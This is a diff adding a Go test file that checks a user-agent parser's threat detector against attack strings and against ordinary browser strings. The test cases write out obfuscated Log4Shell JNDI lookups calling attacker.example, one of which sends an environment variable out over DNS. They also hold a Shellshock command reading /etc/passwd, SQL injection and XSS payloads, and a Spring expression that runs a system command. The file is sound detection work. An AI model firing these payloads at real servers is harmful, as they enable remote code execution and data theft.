@@ -0,0 +1,198 @@
+package useragent
+
+import (
+	"testing"
+)
+
+func TestThreats(t *testing.T) {
+	testCases := []struct {
+		name      string
+		userAgent string
+		kind      ThreatKind
+		payload   string
+	}{
+		{
+			name:      "Log4Shell",
+			userAgent: "${jndi:ldap://attacker.example/a}",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:ldap://attacker.example/a}",
+		},
+		{
+			name:      "Log4Shell in a browser user agent",
+			userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${jndi:rmi://attacker.example:1099/Exploit} Chrome/120.0.0.0",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:rmi://attacker.example:1099/Exploit}",
+		},
+		{
+			name:      "Log4Shell with lower and upper lookups",
+			userAgent: "${${lower:J}${upper:n}${lower:D}i:${lower:L}dap://attacker.example/a}",
+			kind:      ThreatLog4Shell,
+			payload:   "${jNdi:ldap://attacker.example/a}",
+		},
+		{
+			name:      "Log4Shell with default values",
+			userAgent: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:ldap://attacker.example/a}",
+		},
+		{
+			name:      "Log4Shell with environment defaults",
+			userAgent: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:ldap://attacker.example/a}",
+		},
+		{
+			name:      "Log4Shell exfiltrating a variable",
+			userAgent: "${jndi:dns://${env:USER}.attacker.example}",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:dns://env:USER.attacker.example}",
+		},
+		{
+			name:      "Log4Shell percent-encoded",
+			userAgent: "%24%7Bjndi:ldap://attacker.example/a%7D",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:ldap://attacker.example/a}",
+		},
+		{
+			name:      "Log4Shell cut off",
+			userAgent: "${jndi:ldap://attacker.example/a",
+			kind:      ThreatLog4Shell,
+			payload:   "${jndi:ldap://attacker.example/a",
+		},
+		{
+			name:      "Shellshock",
+			userAgent: "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+			kind:      ThreatShellshock,
+			payload:   "() { :; };",
+		},
+		{
+			name:      "Shellshock variant",
+			userAgent: "() { _; } >_[$($())] { echo vulnerable; }",
+			kind:      ThreatShellshock,
+			payload:   "() { _; }",
+		},
+		{
+			name:      "SQL injection tautology",
+			userAgent: "Mozilla/5.0' OR '1'='1",
+			kind:      ThreatSQLInjection,
+			payload:   "' OR '1'=",
+		},
+		{
+			name:      "SQL injection union",
+			userAgent: "Mozilla/5.0 UNION/**/ALL SELECT username, password FROM users",
+			kind:      ThreatSQLInjection,
+			payload:   "UNION/**/ALL SELECT",
+		},
+		{
+			name:      "SQL injection time based",
+			userAgent: "Mozilla/5.0 (Windows NT 10.0) AND SLEEP(5)",
+			kind:      ThreatSQLInjection,
+			payload:   "SLEEP(",
+		},
+		{
+			name:      "SQL injection comment",
+			userAgent: "curl/8.4.0';--",
+			kind:      ThreatSQLInjection,
+			payload:   "';--",
+		},
+		{
+			name:      "XSS script tag",
+			userAgent: "<script>alert(1)</script>",
+			kind:      ThreatXSS,
+			payload:   "<script>",
+		},
+		{
+			name:      "XSS event handler",
+			userAgent: `Mozilla/5.0 <img src=x onerror=fetch('//attacker.example')>`,
+			kind:      ThreatXSS,
+			payload:   `<img src=x onerror=fetch('//attacker.example')>`,
+		},
+		{
+			name:      "XSS percent-encoded",
+			userAgent: "Mozilla/5.0 %3Csvg/onload=confirm(1)%3E",
+			kind:      ThreatXSS,
+			payload:   "<svg/onload=confirm(1)>",
+		},
+		{
+			name:      "template injection",
+			userAgent: "Mozilla/5.0 {{7*7}}",
+			kind:      ThreatTemplateInjection,
+			payload:   "{{7*7}}",
+		},
+		{
+			name:      "Spring expression",
+			userAgent: "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+			kind:      ThreatTemplateInjection,
+			payload:   "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+		},
+		{
+			name:      "expression language",
+			userAgent: "Mozilla/5.0 ${7*7}",
+			kind:      ThreatTemplateInjection,
+			payload:   "${7*7}",
+		},
+	}
+
+	t.Parallel()
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			ua := Parse(tc.userAgent)
+
+			var found *Threat
+
+			threats := ua.Threats()
+			for i := range threats {
+				if threats[i].Kind == tc.kind {
+					found = &threats[i]
+				}
+			}
+
+			if found == nil {
+				t.Fatalf("expected a %s threat, but got %v", tc.kind, threats)
+			}
+
+			if found.Payload != tc.payload {
+				t.Errorf("expected payload %q, but got %q", tc.payload, found.Payload)
+			}
+
+			if c := ua.Classify(); c.Class != ClassBot || !c.Has(ReasonThreat) {
+				t.Errorf("expected a bot classification with a threat reason, but got %s", c)
+			}
+		})
+	}
+}
+
+func TestThreatsLog4ShellIsNotTemplateInjection(t *testing.T) {
+	t.Parallel()
+
+	threats := Parse("${jndi:ldap://attacker.example/a}").Threats()
+	if len(threats) != 1 || threats[0].Kind != ThreatLog4Shell {
+		t.Errorf("expected only a Log4Shell threat, but got %v", threats)
+	}
+}
+
+func TestThreatsNone(t *testing.T) {
+	t.Parallel()
+
+	userAgents := []string{
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
+		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
+		"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
+		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+		"sqlmap/1.7.2#stable (https://sqlmap.org)",
+		"Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
+		"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+		"Opera/9.80 (J2ME/MIDP; Opera Mini/5.1.21214/28.2725; U; en) Presto/2.8.119 Version/11.10",
+		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 100%",
+		"",
+	}
+
+	for _, userAgent := range userAgents {
+		if threats := Parse(userAgent).Threats(); len(threats) > 0 {
+			t.Errorf("expected no threats in %q, but got %v", userAgent, threats)
+		}
+	}
+}